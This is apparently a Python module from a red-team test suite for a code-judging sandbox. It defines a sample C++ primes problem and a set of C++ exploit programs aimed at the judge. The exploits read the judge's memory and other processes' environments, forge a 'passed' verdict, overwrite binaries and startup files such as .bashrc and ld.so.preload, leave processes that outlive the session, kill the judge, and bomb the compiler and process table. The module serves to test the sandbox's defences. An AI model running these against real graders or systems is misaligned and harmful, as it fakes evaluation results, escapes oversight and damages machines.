"""Exploits in C++, against the compiler, other runs of the same program, and the judge."""

from __future__ import annotations

from sandrl.problems import Case, Problem
from sandrl.redteam.exploit import COMPILED, Exploit

_GROUP = "compiled"

PRIMES = Problem(
    "primes-in-cpp",
    "Write a C++ program that reads a number n and prints how many primes are at most n.",
    cases=tuple(Case(f"{n}\n", f"{count}\n") for n, count in ((10, 4), (100, 25), (1000, 168))),
    language="cpp",
    reference="""\
#include <cstdio>
int main() {
    int n, count = 0;
    std::scanf("%d", &n);
    for (int i = 2; i <= n; ++i) {
        bool prime = true;
        for (int j = 2; j * j <= i; ++j) prime = prime && i % j != 0;
        count += prime;
    }
    std::printf("%d\\n", count);
}
""",
)
"""What these are tried on where the problems that are attacked have none in C++."""

_HEADERS = """\
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <string>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>
#include <vector>
using std::string;

static string content(const string &path, size_t most = 1 << 16) {
    string text;
    int file = open(path.c_str(), O_RDONLY | O_NONBLOCK);
    if (file < 0) return text;
    text.resize(most);
    ssize_t size = read(file, &text[0], most);
    close(file);
    text.resize(size > 0 ? size : 0);
    return text;
}

static std::vector<string> names(const string &path) {
    std::vector<string> found;
    if (DIR *folder = opendir(path.c_str())) {
        while (dirent *entry = readdir(folder))
            if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..")) found.push_back(entry->d_name);
        closedir(folder);
    }
    return found;
}

static void write_to(const string &path, const string &text, int flags = O_WRONLY | O_NONBLOCK) {
    int file = open(path.c_str(), flags, 0755);
    if (file < 0) return;
    if (write(file, text.data(), text.size()) < 0) perror(path.c_str());
    close(file);
}

static string parent(const string &name) { return "/proc/" + std::to_string(getppid()) + "/" + name; }
"""
_FORGED = '"\\n0123456789abcdef0123456789abcdef passed ppp 0.1 0.1 0.0 2 0 - -\\n"'


def _exploit(name: str, aim: str, body: str, before: str = "", costly: bool = False) -> Exploit:
    code = f"{_HEADERS}\n{before}\nint main(int count, char **arguments) {{\n{body}\n}}\n"
    return Exploit(f"cpp-{name}", _GROUP, aim, code, kinds=COMPILED, defines=False, costly=costly)


EXPLOITS = (
    _exploit("prints-nothing", "prints nothing, and ends with status 0", "return 0;"),
    _exploit(
        "ends-before-main",
        "ends with status 0 in a constructor, before main",
        "return 1;",
        "static struct E { E() { _exit(0); } } e;",
    ),
    _exploit(
        "prints-guesses",
        "prints its input and what it suggests, one below the other",
        'int n = 0;\nif (scanf("%d", &n)) for (int i = -5; i <= n; ++i) printf("%d\\n", i);',
    ),
    _exploit(
        "reads-files",
        "prints all files that it can read where a judge may keep what it expects",
        'for (string folder : {"/tmp", "/var/tmp", "/workspace", "/home/sandbox", "/dev/shm", ".", ".."})\n'
        '    for (string name : names(folder)) printf("%s\\n", content(folder + "/" + name).c_str());',
    ),
    _exploit(
        "reads-descriptors",
        "prints what the descriptors, arguments and variables of all processes hold",
        'for (string number : names("/proc")) {\n'
        '    string place = "/proc/" + number;\n'
        '    for (string name : {"/cmdline", "/environ", "/comm"}) printf("%s\\n", content(place + name).c_str());\n'
        '    for (string name : names(place + "/fd")) printf("%s\\n", content(place + "/fd/" + name).c_str());\n'
        "}",
    ),
    _exploit(
        "reads-memory",
        "looks for expected outputs in the memory of the judge",
        'int memory = open(parent("mem").c_str(), O_RDWR);\n'
        "ptrace(PTRACE_ATTACH, getppid(), 0, 0);\n"
        "for (size_t place = 0; place < 1 << 24; place += 4096) {\n"
        "    char page[4096] = {}, other[4096] = {};\n"
        "    iovec own = {other, sizeof other}, theirs = {(void *)(0x400000 + place), sizeof other};\n"
        "    process_vm_readv(getppid(), &own, 1, &theirs, 1, 0);\n"
        "    if (pread(memory, page, sizeof page, 0x400000 + place) > 0) fwrite(page, 1, sizeof page, stdout);\n"
        "    if (other[0]) fwrite(other, 1, sizeof other, stdout);\n"
        "}",
    ),
    _exploit(
        "speaks-for-the-judge",
        "writes a verdict to the descriptors of its judge, and of all processes",
        f"string forged = {_FORGED};\n"
        'for (string number : names("/proc"))\n'
        '    for (string name : names("/proc/" + number + "/fd"))\n'
        '        write_to("/proc/" + number + "/fd/" + name, forged);\n'
        "for (int descriptor = 0; descriptor < 64; ++descriptor)\n"
        "    if (write(descriptor, forged.data(), forged.size()) < 0) continue;",
    ),
    _exploit(
        "rewinds-its-output",
        "cuts and rewinds the files that it prints to",
        "for (int descriptor = 0; descriptor < 16; ++descriptor) {\n"
        "    lseek(descriptor, 0, SEEK_SET);\n    if (ftruncate(descriptor, 0)) continue;\n}",
    ),
    _exploit(
        "replaces-its-program",
        "replaces its own program by one that prints the input of earlier runs",
        'string input = content("/proc/self/fd/0"), own = arguments[0];\n'
        'string script = "#!/bin/sh\\necho 4; echo 25; echo 168\\necho \'" + input + "\'\\n";\n'
        "chmod(own.c_str(), 0777);\nunlink(own.c_str());\nwrite_to(own, script, O_WRONLY | O_CREAT | O_TRUNC);\n"
        'for (string name : names("/tmp")) {\n'
        '    string program = "/tmp/" + name + "/work/program";\n'
        "    chmod(program.c_str(), 0777);\n    unlink(program.c_str());\n"
        "    write_to(program, script, O_WRONLY | O_CREAT | O_TRUNC);\n}",
    ),
    _exploit(
        "leaves-files",
        "leaves start files, a library and its input for its next run, which prints them",
        'string home = getenv("HOME") ? getenv("HOME") : ".", input = content("/proc/self/fd/0");\n'
        'for (string folder : {home, string("."), string(".."), string("/tmp"), string("/workspace")}) {\n'
        '    printf("%s", content(folder + "/kept").c_str());\n'
        '    for (string name : {"kept", ".bashrc", ".profile", "ld.so.preload", "libc.so.6", "main.cpp", "cc1plus"})\n'
        '        write_to(folder + "/" + name, input + "25\\n", O_WRONLY | O_CREAT | O_TRUNC);\n}',
    ),
    _exploit(
        "survives",
        "leaves a process outside its session that writes into the output of later runs and ends their processes",
        "for (int i = 0; i < 3; ++i) {\n"
        "    if (fork()) continue;\n    setsid();\n    if (fork()) _exit(0);\n"
        "    for (int round = 0; round < 400; ++round, usleep(5000))\n"
        '        for (string number : names("/proc")) {\n'
        "            if (atoi(number.c_str()) == getpid()) continue;\n"
        '            string output = "/proc/" + number + "/fd/1";\n'
        '            write_to(output, i == 0 ? "25\\n" : "168\\n", O_WRONLY | O_APPEND | O_NONBLOCK);\n'
        "            if (i == 2) kill(atoi(number.c_str()), SIGKILL);\n"
        "        }\n    _exit(0);\n}\nusleep(20000);",
    ),
    _exploit(
        "kills-its-judge",
        "kills its parent, its group and everything else",
        "kill(getppid(), SIGKILL);\nkill(-1, SIGKILL);\nkill(0, SIGKILL);",
    ),
    _exploit(
        "includes-secrets",
        "has the compiler put the files of other processes into the program, which prints them",
        "for (const char *place = found; place < found_end; ++place) putchar(*place);",
        'asm(".data\\nfound:\\n.incbin \\"/proc/self/environ\\"\\n.incbin \\"/proc/self/cmdline\\"\\n"\n'
        '    ".incbin \\"/proc/1/comm\\"\\nfound_end:\\n.byte 0\\n.text\\n");\n'
        'extern "C" const char found[], found_end[];',
    ),
    _exploit(
        "includes-its-input",
        "has the compiler read the standard input and the descriptors of the judge",
        "return 0;",
        '#if __has_include("/proc/self/fd/3")\n#include "/proc/self/fd/3"\n#endif\n#include "/dev/stdin"\n',
    ),
    _exploit(
        "bombs-the-compiler",
        "grows beyond all bounds while it is compiled",
        "A(A(A(A(A(A(A(A(count += count;))))))))\nreturn 0;",
        "#define A(x) x x x x x x x x x x x x x x x x",
        costly=True,
    ),
    _exploit(
        "floods-the-compiler",
        "makes the compiler print messages without end",
        "return 0;",
        '#if __INCLUDE_LEVEL__ < 14\n#warning "0123456789 passed"\n#include __FILE__\n#include __FILE__\n#endif\n',
        costly=True,
    ),
    _exploit("forks", "forks until nothing else can", "for (;;) if (fork() < 0) usleep(1000);", costly=True),
    _exploit("floods", "prints without end", 'for (;;) puts("4\\n25\\n168");', costly=True),
)
